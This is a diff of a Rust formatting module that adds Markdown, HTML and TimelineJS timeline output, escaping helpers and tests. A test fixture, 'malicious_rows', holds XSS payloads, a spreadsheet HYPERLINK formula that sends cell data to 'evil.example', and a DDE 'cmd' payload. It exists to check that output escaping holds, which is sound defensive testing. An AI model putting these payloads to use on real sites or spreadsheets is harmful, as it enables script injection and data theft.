@@ -1,20 +1,38 @@
 //! Formatting rows for people and programs. Formatters write to any `W: Write`; only data goes
 //! there. Field names are a contract: `dyad events --format jsonl` is what
 //! `score_events.py` reads.
+//!
+//! Row formats (table, csv, json, jsonl) are here; the timeline documents have a module each:
+//! [`markdown`] (a briefing chronology), [`html`] (one self-contained page with a visual
+//! timeline) and [`timelinejs`] (TimelineJS 3 JSON and its spreadsheet CSV). Documents need the
+//! country names, which the rows do not carry: the caller passes them in a [`Document`].
 
+pub mod html;
+pub mod markdown;
+pub mod timelinejs;
+
+use crate::model::{DateSpan, PartialDate, Precision};
 use crate::store::{Stats, StoredEvent};
 use crate::temporal::Timex;
 use serde::Serialize;
+use std::collections::HashMap;
 use std::io::{self, Write};
 
-/// Output formats for event rows.
+/// Output formats for event rows and timeline documents.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Format {
     Table,
     Csv,
     Json,
     Jsonl,
+    Markdown,
+    Html,
+    TimelineJs,
+    TimelineJsCsv,
 }
+
+/// Every `--format` value of `dyad timeline`, as the error message lists them.
+const ALL_FORMATS: &str = "table, csv, json, jsonl, markdown, html, timelinejs or timelinejs-csv";
 
 impl std::str::FromStr for Format {
     type Err = String;
@@ -24,11 +42,249 @@ impl std::str::FromStr for Format {
             "csv" => Ok(Format::Csv),
             "json" => Ok(Format::Json),
             "jsonl" | "ndjson" => Ok(Format::Jsonl),
+            "markdown" | "md" => Ok(Format::Markdown),
+            "html" => Ok(Format::Html),
+            "timelinejs" => Ok(Format::TimelineJs),
+            "timelinejs-csv" => Ok(Format::TimelineJsCsv),
+            _ => Err(format!("unknown format \"{s}\": expected {ALL_FORMATS}")),
+        }
+    }
+}
+
+impl Format {
+    /// Parses a format for commands that write rows only (`dyad events`): the timeline documents
+    /// are refused, naming the formats allowed.
+    pub fn parse_rows(s: &str) -> Result<Format, String> {
+        match s.parse::<Format>() {
+            Ok(f) if f.is_rows() => Ok(f),
             _ => Err(format!(
-                "unknown format \"{s}\": expected table, csv, json or jsonl"
+                "unknown format \"{s}\": expected jsonl, csv, table or json"
             )),
         }
     }
+
+    /// Whether this is a row format (one record per event, the fields of [`EventRecord`]).
+    pub fn is_rows(self) -> bool {
+        matches!(
+            self,
+            Format::Table | Format::Csv | Format::Json | Format::Jsonl
+        )
+    }
+
+    /// Whether the output is CSV (where a byte-order mark for Excel makes sense).
+    pub fn is_csv(self) -> bool {
+        matches!(self, Format::Csv | Format::TimelineJsCsv)
+    }
+}
+
+/// What the timeline documents need beyond the rows: the pair and the country names.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct Document {
+    /// The pair as asked (codes), for the title.
+    pub a: String,
+    pub b: String,
+    /// Country code → name; a code without a name is shown as the code.
+    pub names: HashMap<String, String>,
+}
+
+impl Document {
+    pub fn new(a: &str, b: &str, names: HashMap<String, String>) -> Self {
+        Document {
+            a: a.to_string(),
+            b: b.to_string(),
+            names,
+        }
+    }
+
+    /// A document for `rows` with codes for names, the pair taken from the first row.
+    pub fn from_rows(rows: &[StoredEvent]) -> Self {
+        let (a, b) = rows
+            .first()
+            .map(|r| (r.event.actor.clone(), r.event.target.clone()))
+            .unwrap_or_default();
+        Document {
+            a,
+            b,
+            names: HashMap::new(),
+        }
+    }
+
+    /// The name of a country code, else the code itself.
+    pub fn name<'a>(&'a self, code: &'a str) -> &'a str {
+        self.names.get(code).map(String::as_str).unwrap_or(code)
+    }
+
+    /// "Japan–China timeline".
+    pub fn title(&self) -> String {
+        if self.a.is_empty() {
+            "Timeline".to_string()
+        } else {
+            format!("{}–{} timeline", self.name(&self.a), self.name(&self.b))
+        }
+    }
+
+    /// "12 events, March 2019 – May 2025 (1 undated)": a one-line summary of the rows.
+    pub fn subtitle(&self, rows: &[StoredEvent]) -> String {
+        let n = rows.len();
+        let mut s = format!("{n} event{}", if n == 1 { "" } else { "s" });
+        let dated: Vec<&DateSpan> = rows.iter().filter_map(|r| r.event.date.as_ref()).collect();
+        let first = dated.iter().map(|d| d.start).min();
+        let last = dated.iter().map(|d| d.end.unwrap_or(d.start)).max();
+        if let (Some(f), Some(l)) = (first, last) {
+            if f.year != l.year {
+                s.push_str(&format!(", {}–{}", f.year, l.year));
+            } else if f == l {
+                s.push_str(&format!(", {}", human_date(&DateSpan::single(f))));
+            } else {
+                s.push_str(&format!(
+                    ", {}",
+                    human_date(&DateSpan {
+                        start: f,
+                        end: Some(l)
+                    })
+                ));
+            }
+        }
+        let undated = n - dated.len();
+        if undated > 0 && undated < n {
+            s.push_str(&format!(" ({undated} undated)"));
+        } else if undated > 0 {
+            s.push_str(" (undated)");
+        }
+        s
+    }
+}
+
+const MONTHS: [&str; 12] = [
+    "January",
+    "February",
+    "March",
+    "April",
+    "May",
+    "June",
+    "July",
+    "August",
+    "September",
+    "October",
+    "November",
+    "December",
+];
+
+fn month_name(m: u32) -> &'static str {
+    MONTHS
+        .get((m as usize).wrapping_sub(1))
+        .copied()
+        .unwrap_or("?")
+}
+
+/// A date at its precision, as a briefing writes it: "2 April 2023", "March 2023", "2019".
+pub fn human_partial(d: &PartialDate) -> String {
+    match (d.month, d.day) {
+        (Some(m), Some(day)) => format!("{day} {} {}", month_name(m), d.year),
+        (Some(m), None) => format!("{} {}", month_name(m), d.year),
+        _ => d.year.to_string(),
+    }
+}
+
+/// A date or range at its precision: "2 April 2023", "2–5 April 2023", "March–May 2023",
+/// "2019–2021", "30 March – 2 April 2023".
+pub fn human_date(span: &DateSpan) -> String {
+    let s = span.start;
+    let Some(e) = span.end.filter(|e| *e != s) else {
+        return human_partial(&s);
+    };
+    match (s.precision(), e.precision()) {
+        (Precision::Day, Precision::Day) if s.year == e.year && s.month == e.month => format!(
+            "{}–{} {} {}",
+            s.day.unwrap_or(1),
+            e.day.unwrap_or(1),
+            month_name(e.month.unwrap_or(1)),
+            e.year
+        ),
+        (Precision::Day, Precision::Day) if s.year == e.year => format!(
+            "{} {} – {}",
+            s.day.unwrap_or(1),
+            month_name(s.month.unwrap_or(1)),
+            human_partial(&e)
+        ),
+        (Precision::Month, Precision::Month) if s.year == e.year => format!(
+            "{}–{} {}",
+            month_name(s.month.unwrap_or(1)),
+            month_name(e.month.unwrap_or(1)),
+            e.year
+        ),
+        (Precision::Year, Precision::Year) => format!("{}–{}", s.year, e.year),
+        _ => format!("{} – {}", human_partial(&s), human_partial(&e)),
+    }
+}
+
+fn precision_name(p: Precision) -> &'static str {
+    match p {
+        Precision::Day => "day",
+        Precision::Month => "month",
+        Precision::Year => "year",
+    }
+}
+
+/// "export control", "visit": an event type for reading.
+pub fn type_words(t: &str) -> String {
+    t.replace('_', " ")
+}
+
+/// The qualifiers a reader needs besides the type: "planned", "cancelled", "lifted", "eased".
+pub fn qualifiers(s: &StoredEvent) -> Vec<&'static str> {
+    let e = &s.event;
+    let mut q = Vec::new();
+    if e.action != crate::model::Action::Imposed {
+        q.push(e.action.as_str());
+    }
+    if e.status != crate::model::Status::Occurred {
+        q.push(e.status.as_str());
+    }
+    q
+}
+
+/// Escapes text for HTML element content and quoted attribute values.
+pub fn html_escape(s: &str) -> String {
+    let mut o = String::with_capacity(s.len());
+    for c in s.chars() {
+        match c {
+            '&' => o.push_str("&amp;"),
+            '<' => o.push_str("&lt;"),
+            '>' => o.push_str("&gt;"),
+            '"' => o.push_str("&quot;"),
+            '\'' => o.push_str("&#39;"),
+            c => o.push(c),
+        }
+    }
+    o
+}
+
+/// The URL when it is safe to link to (http or https, no spaces or control characters).
+pub fn link_url(url: Option<&str>) -> Option<&str> {
+    let u = url?.trim();
+    let lower = u.to_ascii_lowercase();
+    let ok = (lower.starts_with("http://") || lower.starts_with("https://"))
+        && !u.chars().any(|c| c.is_whitespace() || c.is_control());
+    ok.then_some(u)
+}
+
+/// A value as JSON that is safe inside an HTML `<script>` element: `<`, `>` and `&` become
+/// `\u003c`, `\u003e` and `\u0026`, so no text can close the element or open a comment.
+pub fn json_for_script<T: Serialize>(v: &T) -> serde_json::Result<String> {
+    let s = serde_json::to_string(v)?;
+    let mut o = String::with_capacity(s.len() + 16);
+    for c in s.chars() {
+        match c {
+            '<' => o.push_str("\\u003c"),
+            '>' => o.push_str("\\u003e"),
+            '&' => o.push_str("\\u0026"),
+            '\u{2028}' => o.push_str("\\u2028"),
+            '\u{2029}' => o.push_str("\\u2029"),
+            c => o.push(c),
+        }
+    }
+    Ok(o)
 }
 
 /// One event as written in csv, json and jsonl.
@@ -69,11 +325,7 @@ impl<'a> EventRecord<'a> {
             target: &e.target,
             date: e.date.map(|d| d.start.to_string()),
             date_end: e.date.and_then(|d| d.end).map(|d| d.to_string()),
-            precision: e.date.map(|d| match d.start.precision() {
-                crate::model::Precision::Day => "day",
-                crate::model::Precision::Month => "month",
-                crate::model::Precision::Year => "year",
-            }),
+            precision: e.date.map(|d| precision_name(d.start.precision())),
             date_basis: e.date_basis.as_str(),
             status: e.status.as_str(),
             action: e.action.as_str(),
@@ -90,7 +342,7 @@ impl<'a> EventRecord<'a> {
 }
 
 /// A spreadsheet would run a cell starting with these as a formula.
-fn csv_safe(s: &str) -> String {
+pub fn csv_safe(s: &str) -> String {
     let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
     if risky && s.parse::<f64>().is_err() {
         format!("'{s}")
@@ -117,7 +369,24 @@ fn truncate(s: &str, n: usize) -> String {
     }
 }
 
-/// Writes event rows in `format`.
+/// Writes a timeline in `format`: the row formats as [`write_events`], the documents with the
+/// names and title of `doc`.
+pub fn write_timeline<W: Write>(
+    rows: &[StoredEvent],
+    format: Format,
+    doc: &Document,
+    w: &mut W,
+) -> io::Result<()> {
+    match format {
+        Format::Markdown => markdown::write(rows, doc, w),
+        Format::Html => html::write(rows, doc, w),
+        Format::TimelineJs => timelinejs::write_json(rows, doc, w),
+        Format::TimelineJsCsv => timelinejs::write_csv(rows, doc, w),
+        Format::Table | Format::Csv | Format::Json | Format::Jsonl => write_events(rows, format, w),
+    }
+}
+
+/// Writes event rows in `format` (a document format gets codes for country names).
 pub fn write_events<W: Write>(rows: &[StoredEvent], format: Format, w: &mut W) -> io::Result<()> {
     let recs: Vec<EventRecord<'_>> = rows.iter().map(EventRecord::new).collect();
     match format {
@@ -212,6 +481,9 @@ pub fn write_events<W: Write>(rows: &[StoredEvent], format: Format, w: &mut W) -
                 })
                 .collect();
             write_table(w, &header, &body)?;
+        }
+        Format::Markdown | Format::Html | Format::TimelineJs | Format::TimelineJsCsv => {
+            write_timeline(rows, format, &Document::from_rows(rows), w)?
         }
     }
     Ok(())
@@ -345,8 +617,234 @@ pub fn write_timexes<W: Write>(text: &str, timexes: &[Timex], w: &mut W) -> io::
 }
 
 #[cfg(test)]
-mod tests {
+pub(crate) mod tests {
     use super::*;
+    use crate::model::{Action, DateBasis, Event, EventType, Span, Status};
+
+    fn row(
+        id: i64,
+        event_type: EventType,
+        (actor, target): (&str, &str),
+        date: Option<(&str, Option<&str>)>,
+        summary: &str,
+        evidence: &str,
+        (title, source, url): (Option<&str>, Option<&str>, Option<&str>),
+    ) -> StoredEvent {
+        let date = date.map(|(s, e)| DateSpan {
+            start: s.parse().unwrap(),
+            end: e.map(|e| e.parse().unwrap()),
+        });
+        StoredEvent {
+            id,
+            article_id: id,
+            article_key: format!("a{id}"),
+            title: title.map(String::from),
+            source: source.map(String::from),
+            url: url.map(String::from),
+            pub_date: Some("2023-09-01".into()),
+            event: Event {
+                event_type,
+                cameo: event_type.cameo().map(String::from),
+                actor: actor.into(),
+                target: target.into(),
+                date,
+                date_basis: DateBasis::Text,
+                status: Status::Occurred,
+                action: Action::Imposed,
+                summary: summary.into(),
+                evidence: evidence.into(),
+                sentence: Span::new(0, evidence.len()),
+                trigger: Span::new(0, 1),
+                actor_span: None,
+                target_span: None,
+                date_span: None,
+                date_note: String::new(),
+                role_note: String::new(),
+                rule: "test.rule".into(),
+                confidence: 0.9,
+            },
+        }
+    }
+
+    /// Five events in timeline order: a year, a month, a day, a range and an undated one.
+    pub fn fixture_rows() -> Vec<StoredEvent> {
+        let mut rows = vec![
+            row(
+                3,
+                EventType::Agreement,
+                ("CN", "JP"),
+                Some(("2019", None)),
+                "China and Japan sign a currency swap agreement",
+                "In 2019 China and Japan signed a currency swap agreement.",
+                (Some("Swap deal"), None, None),
+            ),
+            row(
+                1,
+                EventType::ExportControl,
+                ("JP", "CN"),
+                Some(("2023-03", None)),
+                "Japan imposes export controls on China",
+                "Japan announced export controls on 23 types of chip equipment in March.",
+                (
+                    Some("Japan curbs chip equipment"),
+                    Some("Wire"),
+                    Some("https://example.org/controls"),
+                ),
+            ),
+            row(
+                2,
+                EventType::Visit,
+                ("JP", "CN"),
+                Some(("2023-04-02", None)),
+                "Japan visits China",
+                "Japanese Foreign Minister Yoshimasa Hayashi arrived in Beijing on Sunday.",
+                (
+                    Some("Hayashi in Beijing"),
+                    Some("Wire"),
+                    Some("https://example.org/visit"),
+                ),
+            ),
+            row(
+                4,
+                EventType::Sanction,
+                ("CN", "JP"),
+                Some(("2023-08-24", Some("2023-08-31"))),
+                "China bans Japanese seafood",
+                "China banned all Japanese seafood from 24 to 31 August.",
+                (
+                    Some("Seafood ban"),
+                    Some("Daily"),
+                    Some("https://example.org/ban"),
+                ),
+            ),
+            row(
+                5,
+                EventType::Detention,
+                ("CN", "JP"),
+                None,
+                "China detains a Japanese national",
+                "Chinese authorities detained a Japanese employee of Astellas.",
+                (None, None, None),
+            ),
+        ];
+        rows[3].event.action = Action::Eased;
+        rows
+    }
+
+    /// Article text written to break out of every format.
+    pub fn malicious_rows() -> Vec<StoredEvent> {
+        let evil = r#"<script>alert(1)</script> "><img src=x onerror=alert(2)> </script><script>alert(3)</script> <!-- & &amp; ' `"#;
+        vec![
+            row(
+                7,
+                EventType::Protest,
+                ("JP", "CN"),
+                Some(("2023-05", None)),
+                &format!("Japan protests {evil}"),
+                &format!("*Tokyo* [protested](javascript:alert(4)) {evil}\n# heading"),
+                (
+                    Some(r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#),
+                    Some("+cmd|' /C calc'!A0"),
+                    Some("javascript:alert(5)"),
+                ),
+            ),
+            row(
+                8,
+                EventType::Expulsion,
+                ("CN", "JP"),
+                None,
+                "</script><script>alert(6)</script>",
+                "-1 </SCRIPT >alert(7)",
+                (
+                    Some("@SUM(1)</title><script>alert(8)</script>"),
+                    None,
+                    Some("https://example.org/a?b=\"><script>alert(9)</script>"),
+                ),
+            ),
+        ]
+    }
+
+    /// Japan and China by name.
+    pub fn names() -> Document {
+        Document::new(
+            "JP",
+            "CN",
+            [("JP", "Japan"), ("CN", "China")]
+                .into_iter()
+                .map(|(a, b)| (a.to_string(), b.to_string()))
+                .collect(),
+        )
+    }
+
+    #[test]
+    fn dates_read_at_their_precision() {
+        let span = |s: &str, e: Option<&str>| DateSpan {
+            start: s.parse().unwrap(),
+            end: e.map(|e| e.parse().unwrap()),
+        };
+        for (s, e, want) in [
+            ("2023-04-02", None, "2 April 2023"),
+            ("2023-03", None, "March 2023"),
+            ("2019", None, "2019"),
+            ("2023-04-02", Some("2023-04-05"), "2–5 April 2023"),
+            ("2023-03-30", Some("2023-04-02"), "30 March – 2 April 2023"),
+            ("2023-03", Some("2023-05"), "March–May 2023"),
+            ("2019", Some("2021"), "2019–2021"),
+            (
+                "2022-12-30",
+                Some("2023-01-02"),
+                "30 December 2022 – 2 January 2023",
+            ),
+            ("2023-03", Some("2023-03"), "March 2023"),
+        ] {
+            assert_eq!(human_date(&span(s, e)), want, "{s} {e:?}");
+        }
+    }
+
+    #[test]
+    fn formats_parse_and_events_keep_row_formats() {
+        for (s, f) in [
+            ("markdown", Format::Markdown),
+            ("html", Format::Html),
+            ("timelinejs", Format::TimelineJs),
+            ("timelinejs-csv", Format::TimelineJsCsv),
+            ("csv", Format::Csv),
+        ] {
+            assert_eq!(s.parse::<Format>(), Ok(f));
+        }
+        let e = "xml".parse::<Format>().unwrap_err();
+        assert!(
+            e.contains("markdown, html, timelinejs or timelinejs-csv"),
+            "{e}"
+        );
+        assert_eq!(Format::parse_rows("json"), Ok(Format::Json));
+        let e = Format::parse_rows("html").unwrap_err();
+        assert_eq!(
+            e,
+            "unknown format \"html\": expected jsonl, csv, table or json"
+        );
+    }
+
+    #[test]
+    fn json_in_script_cannot_close_the_element() {
+        let s = json_for_script(&"</script><!-- & \u{2028}").unwrap();
+        assert!(
+            !s.contains('<') && !s.contains('>') && !s.contains('&'),
+            "{s}"
+        );
+        let back: String = serde_json::from_str(&s).unwrap();
+        assert_eq!(back, "</script><!-- & \u{2028}");
+    }
+
+    #[test]
+    fn links_only_to_web_urls() {
+        assert_eq!(link_url(Some("https://e.org/x")), Some("https://e.org/x"));
+        assert_eq!(link_url(Some("javascript:alert(1)")), None);
+        assert_eq!(link_url(Some("JaVaScRiPt:alert(1)")), None);
+        assert_eq!(link_url(Some("data:text/html,x")), None);
+        assert_eq!(link_url(Some("https://e.org/a b")), None);
+        assert_eq!(link_url(None), None);
+    }
 
     #[test]
     fn csv_cells_never_start_formulas() {
